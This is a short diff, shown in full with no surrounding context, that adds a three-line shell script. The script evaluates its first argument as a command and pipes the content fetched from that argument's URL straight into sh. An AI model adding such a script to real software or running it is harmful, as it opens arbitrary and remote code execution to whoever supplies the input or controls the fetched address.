@@ -1,0 +1,3 @@
+#!/bin/sh
+eval "$1"
+curl "$1" | sh
